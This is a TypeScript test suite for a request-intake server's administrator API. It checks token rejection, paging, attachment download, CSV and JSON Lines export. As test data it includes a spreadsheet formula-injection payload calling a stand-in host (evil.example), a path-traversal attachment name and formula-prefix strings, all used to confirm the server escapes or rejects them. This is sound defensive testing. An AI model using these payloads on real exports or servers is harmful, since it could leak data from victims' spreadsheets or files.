import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import Database from 'better-sqlite3';
import sharp from 'sharp';
import { csvCell } from '../../server/admin.js';
import { openDatabase } from '../../server/db.js';
import type { Level } from '../../server/log.js';
import { ADMIN_TOKEN, bearer, json, png, startTestReceiver, submit, tempDataDir, validRequests, type TestReceiver } from './support.js';

/** A minimal RFC 4180 reader for the export: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const line of text.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
    rows.push([...line.matchAll(/"((?:[^"]|"")*)"(?:;|$)/g)].map((m) => m[1]!.replace(/""/g, '"')));
  }
  return rows;
}

describe('administrator routes', () => {
  let receiver: TestReceiver;
  const ids: string[] = [];
  before(async () => {
    receiver = await startTestReceiver();
    const requests = [
      { request: validRequests.staff, screenshots: [{ bytes: await png(40, 30) }] },
      { request: validRequests.parent },
      {
        request: {
          ...validRequests.student,
          fullName: '=HYPERLINK("https://evil.example?"&A1,"Открыть")',
          description: '+7 999 не приходит код; =1+2 в ячейке, "кавычки", и перенос\nстроки',
        },
      },
    ];
    for (const r of requests) ids.push((await json(await submit(receiver.endpoint, r))).id);
  });
  after(() => receiver.dispose());

  const get = (path: string, headers: Record<string, string> = bearer()) => fetch(`${receiver.url}${path}`, { headers });

  describe('refuse without the right token', () => {
    const paths = () => ['/api/requests', `/api/requests/${ids[0]}`, `/api/requests/${ids[0]}/attachments/1`, '/api/requests/export.csv', '/api/requests/export.jsonl'];
    for (const [name, headers] of [
      ['no Authorization header', {}],
      ['a wrong token', bearer('wrong-token-wrong-token-wrong-token')],
      ['a token that is a prefix of the right one', bearer(ADMIN_TOKEN.slice(0, -1))],
      ['another scheme', { Authorization: `Basic ${Buffer.from(`admin:${ADMIN_TOKEN}`).toString('base64')}` }],
    ] as [string, Record<string, string>][]) {
      it(`with ${name}: 401 and a JSON message`, async () => {
        for (const path of paths()) {
          const response = await get(path, headers);
          assert.equal(response.status, 401, path);
          assert.equal((await json(response)).error, 'unauthorized');
        }
      });
    }
  });

  it('lists requests newest first, paged', async () => {
    const all = await json(await get('/api/requests'));
    assert.equal(all.total, 3);
    assert.deepEqual(
      all.items.map((i: { id: string }) => i.id),
      [...ids].reverse(),
    );
    const page2 = await json(await get('/api/requests?page=2&limit=2'));
    assert.deepEqual(
      page2.items.map((i: { id: string }) => i.id),
      [ids[0]],
    );
    assert.equal(page2.pages, 2);
  });

  it('shows one request with its attachments as URLs', async () => {
    const response = await get(`/api/requests/${ids[0]}`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('cache-control'), 'no-store');
    const detail = await json(response);
    assert.equal(detail.role, 'staff');
    assert.equal(detail.consentVersion, '2025-09');
    assert.deepEqual(detail.request, validRequests.staff);
    assert.deepEqual(detail.attachments, [{ n: 1, type: 'image/png', bytes: detail.attachments[0].bytes, width: 40, height: 30, url: `/api/requests/${ids[0]}/attachments/1` }]);
  });

  it('serves an attachment for download only, with its real type', async () => {
    const response = await get(`/api/requests/${ids[0]}/attachments/1`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'image/png');
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="\d{4}-\d{6}-1\.png"$/);
    const { width } = await sharp(Buffer.from(await response.arrayBuffer())).metadata();
    assert.equal(width, 40);
  });

  it('answers 404 for an unknown request or attachment', async () => {
    assert.equal((await get('/api/requests/1999-000001')).status, 404);
    assert.equal((await get(`/api/requests/${ids[0]}/attachments/2`)).status, 404);
    assert.equal((await get(`/api/requests/${ids[1]}/attachments/1`)).status, 404);
    assert.equal((await get(`/api/requests/${ids[0]}/attachments/..%2F..%2Frequests.sqlite`)).status, 404);
  });

  it('exports CSV, oldest first, that a spreadsheet opens without running formulas', async () => {
    const response = await get('/api/requests/export.csv');
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment/);
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    assert.equal(header![0], 'id');
    assert.match(text, /^\uFEFF?"id";"/, 'Excel with Russian settings splits on ;');
    assert.deepEqual(
      rows.map((r) => r[0]),
      ids,
    );
    const col = (name: string) => header!.indexOf(name);
    const student = rows[2]!;
    assert.equal(student[col('full_name')], `'=HYPERLINK("https://evil.example?"&A1,"Открыть")`);
    assert.equal(student[col('description')], `'+7 999 не приходит код; =1+2 в ячейке, "кавычки", и перенос\nстроки`);
    assert.equal(rows[0]![col('screenshots')], '1');
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  it('escapes every cell a spreadsheet would read as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${start}cmd`), `"'${start}cmd"`);
    assert.equal(csvCell('обычный текст'), '"обычный текст"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell(undefined), '""');
  });

  it('exports JSON Lines with one full request per line', async () => {
    const response = await get('/api/requests/export.jsonl');
    assert.equal(response.status, 200);
    const lines = (await response.text()).trim().split('\n').map((l) => JSON.parse(l));
    assert.deepEqual(
      lines.map((l) => l.id),
      ids,
    );
    assert.equal(lines[1].request.fullName, validRequests.parent.fullName);
    assert.equal(lines[0].attachments[0].url, `/api/requests/${ids[0]}/attachments/1`);
  });

  it('exports in batches, whatever the number of requests', async () => {
    const dataDir = tempDataDir();
    openDatabase(join(dataDir, 'requests.sqlite')).close();
    const db = new Database(join(dataDir, 'requests.sqlite'));
    const insert = db.prepare(
      `INSERT INTO requests (number, year, year_seq, role, request, consent_version, created_at, idempotency_key, body_hash, client_hash, response)
       VALUES (?, 2026, ?, 'staff', ?, 'v', '2026-01-01T00:00:00.000Z', ?, '', '', '')`,
    );
    db.transaction(() => {
      for (let i = 1; i <= 501; i++) insert.run(`2026-${String(i).padStart(6, '0')}`, i, JSON.stringify(validRequests.staff), `key-${i}-0123456789abcdef`);
    })();
    db.close();
    const many = await startTestReceiver({}, { dataDir });
    try {
      const lines = (await (await fetch(`${many.url}/api/requests/export.jsonl`, { headers: bearer() })).text()).trim().split('\n');
      assert.equal(lines.length, 501);
      assert.equal(new Set(lines.map((l) => JSON.parse(l).id)).size, 501);
    } finally {
      await many.dispose();
    }
  });
});

describe('without ADMIN_TOKEN', () => {
  it('does not mount the administrator routes and says so in the log', async () => {
    const lines: { level: Level; msg: string }[] = [];
    const receiver = await startTestReceiver({ ADMIN_TOKEN: '' }, { log: (level, msg) => lines.push({ level, msg }) });
    try {
      await submit(receiver.endpoint);
      for (const path of ['/api/requests', '/api/requests/export.csv']) {
        const response = await fetch(`${receiver.url}${path}`, { headers: bearer() });
        assert.equal(response.status, 404, path);
      }
      assert.ok(lines.some((l) => l.level === 'warn' && /ADMIN_TOKEN is not set/.test(l.msg)));
    } finally {
      await receiver.dispose();
    }
  });
});
